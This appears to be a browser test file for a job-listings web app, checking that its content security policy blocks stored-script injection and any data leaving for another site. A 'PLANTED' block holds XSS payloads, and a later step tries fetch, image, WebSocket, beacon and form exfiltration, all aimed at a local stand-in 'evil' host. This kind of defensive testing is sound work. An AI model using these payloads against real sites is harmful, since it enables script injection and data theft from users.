import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, expect, test } from 'vitest';
import { openPage } from '../support/browser.ts';
import { makeCompany, makeJob } from '../support/people.ts';
import { visit } from '../support/screen.ts';
import { startServer } from '../support/server.ts';

const server = await startServer();
const company = await makeCompany(server);
const job = await makeJob(server, company);

// Another site, which accepts everything that is sent to it.
const received: string[] = [];
const elsewhere = createServer((request, response) => {
  received.push(`${request.method} ${request.url}`);
  response.setHeader('access-control-allow-origin', '*').end();
});
await new Promise<void>((resolve) => void elsewhere.listen(0, '127.0.0.1', resolve));
afterAll(() => void elsewhere.close());
const evil = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;

/** Everything that a stored script could be, as it would stand in a page without escaping. */
const PLANTED = `
  <script>window.planted = 'inline'; fetch('${evil}/inline')</script>
  <script type="module">window.planted = 'module'</script>
  <script src="${evil}/external.js"></script>
  <script nonce="">window.planted = 'empty nonce'</script>
  <img src="x" onerror="window.planted = 'handler'">
  <img src="${evil}/picture">
  <iframe src="${evil}/frame"></iframe>
  <iframe srcdoc="<script>parent.planted = 'srcdoc'</script>"></iframe>
  <object data="${evil}/object"></object>
  <link rel="stylesheet" href="${evil}/style.css">
  <style>body { background: url(${evil}/background) }</style>
  <base href="${evil}/">
  <form action="${evil}/form" method="post"><input name="secret" value="1"><button id="send">Send</button></form>
  <a id="script-link" href="javascript:window.planted='link'">Link</a>`;

test('a script in a page does not run, and nothing leaves for another site', async () => {
  const { page } = await openPage(server.url, { expected: [/./] });
  // As if a job's text had been put into the page without escaping, before the page's own scripts.
  await page.route(`${server.url}/job/*`, async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    await route.fulfill({ response, body: html.replace(/<main\b/, `${PLANTED}<main`) });
  });
  // React would remove what it did not render.
  await page.route('**/assets/*.js', (route) => route.abort());
  await page.addInitScript(() => {
    const refused: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      refused.push(effectiveDirective),
    );
    Object.assign(window, { refused });
  });
  const refusals = () => page.evaluate(() => (window as unknown as { refused: string[] }).refused);
  // Playwright would wait for where the click leads.
  const press = (part: string) =>
    page.evaluate((selector) => document.querySelector<HTMLElement>(selector)?.click(), part);
  await page.goto(`/job/${job._id}`);
  await press('#send');
  await press('#script-link');

  // And if one did run, it could send nothing.
  const outcomes = await page.evaluate(async (to) => {
    const tried = {
      fetch: await fetch(`${to}/fetch`).then(String, () => 'refused'),
      picture: await new Promise((resolve) => {
        const image = new Image();
        image.addEventListener('load', () => resolve('sent'));
        image.addEventListener('error', () => resolve('refused'));
        image.src = `${to}/image`;
      }),
      socket: await new Promise((resolve) => {
        try {
          const socket = new WebSocket(to.replace('http', 'ws'));
          socket.addEventListener('open', () => resolve('sent'));
          socket.addEventListener('error', () => resolve('refused'));
        } catch {
          resolve('refused');
        }
      }),
    };
    navigator.sendBeacon(`${to}/beacon`, 'secret');
    const form = document.createElement('form');
    Object.assign(form, { action: `${to}/made-form`, method: 'post' });
    document.body.append(form);
    form.submit();
    return tried;
  }, evil);
  expect(outcomes).toEqual({ fetch: 'refused', picture: 'refused', socket: 'refused' });
  const directives = [
    'script-src-elem',
    'script-src-attr',
    'style-src-elem',
    'img-src',
    'connect-src',
    'frame-src',
    'object-src',
    'base-uri',
    'form-action',
  ];
  await expect.poll(refusals).toEqual(expect.arrayContaining(directives));
  // Two forms: the planted one, and the one that a script made.
  const forms = async () => (await refusals()).filter((each) => each === 'form-action').length;
  await expect.poll(forms).toBe(2);

  // Text never becomes markup.
  const written = await page.evaluate(() => {
    try {
      document.body.innerHTML = '<img src=x onerror="window.planted = 1">';
      return 'written';
    } catch (error) {
      return (error as Error).name;
    }
  });
  expect(written).toBe('TypeError');
  expect(await page.evaluate(() => (window as { planted?: string }).planted)).toBeUndefined();
  expect(new URL(page.url()).origin).toBe(server.url);
  expect(received).toEqual([]);
});

test("the page's own scripts run, from the cache too", async () => {
  for (const path of ['/', `/job/${job._id}`, '/no-such-page', `/job/${job._id}`]) {
    const expected = path === '/no-such-page' ? [/404 GET/, /Page not found/] : [];
    const { page } = await openPage(server.url, { expected });
    await visit(page, path);
  }
});
